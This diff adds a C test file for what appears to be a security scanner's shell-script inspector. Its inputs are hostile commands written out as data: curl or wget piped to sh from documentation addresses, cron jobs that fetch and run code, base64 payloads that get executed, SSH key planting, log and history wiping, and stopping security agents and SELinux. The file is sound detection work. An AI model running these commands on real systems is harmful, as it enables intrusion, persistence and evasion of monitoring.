@@ -1,0 +1,276 @@
+// SPDX-License-Identifier: Apache-2.0
+/* Imitations: hosts are documentation addresses and names, and nothing here is ever run. */
+#include <time.h>
+
+#include "base/cleanup.h"
+#include "base/strbuf.h"
+#include "event/value.h"
+#include "harness/test.h"
+#include "inspect/inspect.h"
+#include "inspect/script.h"
+
+static struct facts facts;
+static struct strbuf text;
+
+static void look_at(const char *path, const char *content)
+{
+    static const char *const only[] = {"script", NULL};
+    _cleanup_(inspector_freep) struct inspector *in = NULL;
+    struct error err = ERROR_NULL;
+    CHECK_INT(inspector_new(&(struct inspect_options){.only = only}, &in, &err), 0);
+    facts_done(&facts);
+    facts_init(&facts);
+    facts_reset(&facts, EVENT_FILE, 0);
+    facts_str(&facts, F_FILE_PATH, str_from(path));
+    CHECK_INT(inspector_bytes(in, str_from(content), &facts), 0);
+}
+
+static void look(const char *content)
+{
+    _cleanup_(strbuf_done) struct strbuf b = {};
+    strbuf_adds(&b, "#!/bin/sh\n");
+    strbuf_adds(&b, content);
+    look_at("/x", b.p);
+}
+
+static const char *list(enum field_id id)
+{
+    strbuf_clear(&text);
+    value_add_text(&text, facts_get(&facts, id));
+    return text.p;
+}
+
+static bool flag(enum field_id id)
+{
+    return facts_get(&facts, id)->type == VALUE_BOOL && facts_get(&facts, id)->b;
+}
+
+TEST(interpreters)
+{
+    static const char *const CASES[][3] = {
+        {"/x", "#!/bin/sh\n", "sh"},
+        {"/x", "#!/usr/bin/env -S python3.11 -u\n", "python"},
+        {"/x", "#! /usr/bin/perl -w\n", "perl"},
+        {"/x.py", "import os\n", "python"},
+        {"/x", "<?php echo 1;", "php"},
+        {"/x.js", "let a = 1;\n", "node"},
+        {"/x", "#!/usr/bin/nodejs\n", "node"},
+        {"/profile", "export A=1\nif [ -n \"$B\" ]; then\n  echo \"x\"\nfi\n", "sh"},
+        {"/notes.txt", "if you test this for me, echo it\n", ""},
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
+        look_at(CASES[i][0], CASES[i][1]);
+        CHECK_STR(facts_get_str(&facts, F_SCRIPT_INTERPRETER), CASES[i][2]);
+    }
+}
+
+TEST(commands_by_the_words_a_shell_sees)
+{
+    look("if test -f x; then c\\url -s 'http://192.0.2.1/a'; fi\nPATH=/bin sudo -u root nohup w''get \\\n -q "
+         "x.example/b &\n"
+         "$(which cat) /etc/hosts | \"sort\"; case $1 in start) run_it;; stop|halt) halt_it;; esac\nf() { "
+         "inner; }\nf\n");
+    CHECK_CSTR(list(F_SCRIPT_COMMANDS), "(test,curl,wget,which,cat,sort,run_it,halt_it,inner)");
+    look("c$@at$IFS/etc/hosts;{grep,-c,x}\n$'\\x6c\\163' /\n");
+    CHECK_CSTR(list(F_SCRIPT_COMMANDS), "(cat,grep,ls)");
+}
+
+TEST(writes_and_removes)
+{
+    look("D=/root/.ssh\nF=$D/authorized_keys\necho key >> $F\necho x | tee -a /etc/hosts >/dev/null\ndd "
+         "if=/dev/zero of=/tmp/z\n"
+         "cmd 2>/dev/null 2>&1 >\"/tmp/a b\"\nrm -rf $D /var/log/x\n> /var/log/wtmp\ncat /dev/null > "
+         "/var/log/lastlog\n"
+         "unlink $HOME/.bash_history\nfind /var/spool/cron -type f -delete\n");
+    CHECK_CSTR(list(F_SCRIPT_WRITES),
+               "(/root/.ssh/authorized_keys,/etc/hosts,/tmp/z,/tmp/a b,/var/log/wtmp,/var/log/lastlog)");
+    CHECK_CSTR(list(F_SCRIPT_REMOVES),
+               "(/root/.ssh,/var/log/x,/var/log/wtmp,/var/log/lastlog,$HOME/.bash_history,/var/spool/cron)");
+}
+
+TEST(stops)
+{
+    look("systemctl stop aliyun.service\nsystemctl disable --now cloudmonitor\nservice crond "
+         "stop\n/etc/init.d/aegis stop\n"
+         "chkconfig hostguard off\napt-get -y remove clamav\nrpm -e t-agent\nbash "
+         "/usr/local/agent/uninstall.sh\n"
+         "/opt/agent/Uninst.sh\nsystemctl start nginx\nservice ssh restart\nsetenforce 0\n");
+    CHECK_CSTR(list(F_SCRIPT_STOPS), "(aliyun,cloudmonitor,crond,aegis,hostguard,clamav,t-agent,"
+                                     "/usr/local/agent/uninstall.sh,/opt/agent/Uninst.sh,selinux)");
+}
+
+TEST(kills)
+{
+    look("pkill -9 -f imitation1\nkillall imitation2 imitation3\n"
+         "ps aux | grep -v grep | grep '[i]mitation4' | awk '{print $2}' | xargs -I % kill -9 %\n"
+         "kill -9 $(pgrep imitation5)\nP=`ps -ef | grep imitation6 | awk '{print $2}'`\nkill $P\n"
+         "for n in imitation7 imitation8; do pkill $n; done\n"
+         "ps ax | grep -E 'imitation9|imitation10' | while read p; do kill -9 $p; done\n"
+         "grep nothing /etc/passwd; kill -HUP 1\n");
+    CHECK_CSTR(list(F_SCRIPT_KILLS),
+               "(imitation1,imitation2,imitation3,imitation4,imitation5,imitation6,imitation7,"
+               "imitation8,imitation9,imitation10)");
+    CHECK_INT(facts_get(&facts, F_SCRIPT_KILLS_COUNT)->u, 10);
+}
+
+TEST(locks_whatever_the_tool_is_called)
+{
+    look("chattr +i /etc/passwd\nlockr -i /root/.ssh/authorized_keys\nlockr +ia /var/spool/cron/root\n"
+         "mv /usr/bin/chattr /usr/bin/zz\nzz -a /etc/crontab\n");
+    CHECK_CSTR(list(F_SCRIPT_LOCKS),
+               "(/etc/passwd,/var/spool/cron/root,/etc/crontab,/root/.ssh/authorized_keys)");
+    look("set +a\nset -a /x\ngrep -i /etc/passwd\nsed -i /tmp/x\nls -a /tmp\nother -i /etc/x\ndate +%s\n");
+    CHECK(!facts_has(&facts, F_SCRIPT_LOCKS));
+}
+
+TEST(downloads)
+{
+    look(
+        "curl -fsSL -o /tmp/x http://192.0.2.7/x.sh\nwget -qO- https://example.net/y | cat\ncd1 "
+        "http://192.0.2.8/z\n"
+        "U=http://192.0.2.9\nwget $U/w.tar -O /tmp/w\ncurl 192.0.2.10/bare\necho see http://example.org/doc\n"
+        "git clone https://example.org/r.git\n");
+    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.7/x.sh,https://example.net/y,http://192.0.2.8/z,"
+                                         "http://192.0.2.9/w.tar,192.0.2.10/bare)");
+    CHECK_CSTR(list(F_SCRIPT_WRITES), "(/tmp/x,/tmp/w)");
+    CHECK(!flag(F_SCRIPT_DOWNLOAD_RUN));
+}
+
+TEST(downloads_that_are_run)
+{
+    static const char *const HIT[] = {
+        "curl -s http://192.0.2.1/x | bash\n",
+        "(curl -s 192.0.2.1/x || wget -qO - 192.0.2.1/x) | sh\n",
+        "{ curl -s 192.0.2.1/x; echo; } | sh\n",
+        "if true; then curl -s 192.0.2.1/x; else wget -qO- 192.0.2.1/x; fi | bash\n",
+        "wget -q -O - http://192.0.2.1/x | sudo bash -s -- -y\n",
+        "bash -c \"$(curl -fsSL http://192.0.2.1/x)\"\n",
+        "bash <(curl -s http://192.0.2.1/x)\n",
+        "eval `wget -qO- http://192.0.2.1/x`\n",
+        "source <(curl -s http://192.0.2.1/x)\n",
+        "curl -o /tmp/a http://192.0.2.1/a && chmod +x /tmp/a && /tmp/a\n",
+        "cd /tmp; wget http://192.0.2.1/a.sh; chmod 777 a.sh; ./a.sh\n",
+        "curl http://192.0.2.1/a > a; sh a\n",
+        "python3 -c \"$(curl -s http://192.0.2.1/x)\"\n",
+        "echo '*/5 * * * * curl -s http://192.0.2.1/x | sh' | crontab -\n",
+        "cat > /etc/cron.d/x <<EOF\n* * * * * root wget -qO- http://192.0.2.1/x | sh\nEOF\n",
+        "sh <<EOF\ncurl http://192.0.2.1/x | sh\nEOF\n",
+        "X='curl http://192.0.2.1/x'; eval \"$X | sh\"\n",
+    };
+    static const char *const MISS[] = {
+        "curl -s http://192.0.2.1/x | tar xz\n",
+        "curl -s http://192.0.2.1/x | python3 -m json.tool\n",
+        "curl -s http://192.0.2.1/x | jq . > y; bash other.sh\n",
+        "curl -s http://192.0.2.1/x | bash -c 'cat > file'\n",
+        "# curl http://192.0.2.1/x | bash\n",
+        "echo 'curl http://192.0.2.1/x | bash'\n",
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(HIT); i++) {
+        look(HIT[i]);
+        if (!flag(F_SCRIPT_DOWNLOAD_RUN))
+            test_fail(__FILE__, __LINE__, "missed: %s", HIT[i]);
+    }
+    for (size_t i = 0; i < ARRAY_SIZE(MISS); i++) {
+        look(MISS[i]);
+        if (flag(F_SCRIPT_DOWNLOAD_RUN))
+            test_fail(__FILE__, __LINE__, "wrongly: %s", MISS[i]);
+    }
+}
+
+TEST(decoded_text_that_is_run)
+{
+    static const char *const HIT[] = {
+        "echo ZWNobyBpbWl0YXRpb24= | base64 -d | sh\n",
+        "eval \"$(echo ZWNobyBpbWl0YXRpb24= | base64 --decode)\"\n",
+        "bash -c \"`base64 -d < x`\"\n",
+        "X=$(echo ZWNobw== | base64 -di); eval $X\n",
+        "zcat x.gz | bash\n",
+        "python -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"\n",
+        "echo x | openssl enc -d -a | sh\n",
+    };
+    static const char *const MISS[] = {
+        "echo ZWNobw== | base64 -d > key.pem\n",
+        "tar xzf - | sh_is_not_run\n",
+        "base64 x | sh -c 'cat'\n",
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(HIT); i++) {
+        look(HIT[i]);
+        if (!flag(F_SCRIPT_DECODE_RUN))
+            test_fail(__FILE__, __LINE__, "missed: %s", HIT[i]);
+    }
+    for (size_t i = 0; i < ARRAY_SIZE(MISS); i++) {
+        look(MISS[i]);
+        if (flag(F_SCRIPT_DECODE_RUN))
+            test_fail(__FILE__, __LINE__, "wrongly: %s", MISS[i]);
+    }
+}
+
+TEST(here_documents_are_no_commands)
+{
+    look("cat > /tmp/readme <<'EOF' && chmod 600 /tmp/readme\nrm -rf /nothing\nEOF\ntrue\ncat "
+         "<<-END\n\tpkill nobody\n\tEND\n");
+    CHECK_CSTR(list(F_SCRIPT_COMMANDS), "(cat,chmod,true)");
+    CHECK(!facts_has(&facts, F_SCRIPT_REMOVES));
+}
+
+static const char VARIANT[] =
+    "K=%s\nfor i in 1 2 3; do\n  curl -s http://%s/a.sh -o /tmp/%s\n  chmod +x /tmp/%s\n"
+    "  /tmp/%s --user \"%s\" >/dev/null 2>&1 &\ndone\nrm -f /var/log/%s\n";
+
+TEST(variants_have_one_shape)
+{
+    char a[512], b[512];
+    snprintf(a, sizeof(a), VARIANT, "1", "192.0.2.1", "aa", "aa", "aa", "x", "m");
+    snprintf(b, sizeof(b), VARIANT, "77", "example.net:8080", "q9", "q9", "q9", "yy", "n.o");
+    look(a);
+    struct str first = facts_get_str(&facts, F_SCRIPT_SHAPE);
+    char shape[65];
+    snprintf(shape, sizeof(shape), "%.*s", STR_ARG(first));
+    CHECK_INT(first.n, 32);
+    look(b);
+    CHECK_STR(facts_get_str(&facts, F_SCRIPT_SHAPE), shape);
+    look("K=1\nfor i in 1 2 3; do\n  wget -q http://192.0.2.1/a.sh -O /tmp/a\n  chmod 600 /tmp/a\n  cat "
+         "/tmp/a\ndone\nrm -f /x\n");
+    CHECK(!str_is(facts_get_str(&facts, F_SCRIPT_SHAPE), shape));
+}
+
+TEST(notes_tell_the_place)
+{
+    look("true\n  rm -rf /var/log/secure\n");
+    bool found = false;
+    for (size_t i = 0; i < facts.n_notes; i++)
+        if (facts.notes[i].field == F_SCRIPT_REMOVES) {
+            CHECK_INT(facts.notes[i].line, 3);
+            CHECK_INT(facts.notes[i].column, 10);
+            CHECK_STR(facts.notes[i].excerpt, "  rm -rf /var/log/secure");
+            found = true;
+        }
+    CHECK(found);
+}
+
+TEST(a_single_command_line)
+{
+    facts_done(&facts);
+    facts_init(&facts);
+    facts_reset(&facts, EVENT_FILE, 0);
+    script_look_command(STR("/bin/sh -c 'curl -s http://192.0.2.1/x | sh' >/dev/null 2>&1"), NULL, 0, &facts);
+    CHECK(flag(F_SCRIPT_DOWNLOAD_RUN));
+    CHECK_CSTR(list(F_SCRIPT_COMMANDS), "(sh,curl)");
+}
+
+TEST(hostile_text_takes_linear_time)
+{
+    static const char *const UNITS[] = {
+        "$(",      "`",  "\"",   "'",  "${",  "$((", "((",      "<<a ", "[[ ;", "case x in ", "$A$A",
+        "A=$A$A;", "\\", "((((", "a|", "{a,", "<(",  "eval $(", "a() ", "\"$(", "sh <<E\n"};
+    _cleanup_(strbuf_done) struct strbuf b = {};
+    for (size_t i = 0; i < ARRAY_SIZE(UNITS); i++) {
+        strbuf_clear(&b);
+        strbuf_adds(&b, "A=xxxxxxxxxxxxxxxx\n");
+        while (b.n < 200000)
+            strbuf_adds(&b, UNITS[i]);
+        clock_t before = clock();
+        look(b.p);
+        CHECK(clock() - before < 2 * CLOCKS_PER_SEC); /* measured: 20 ms at most; quadratic time would be minutes */
+    }
+}
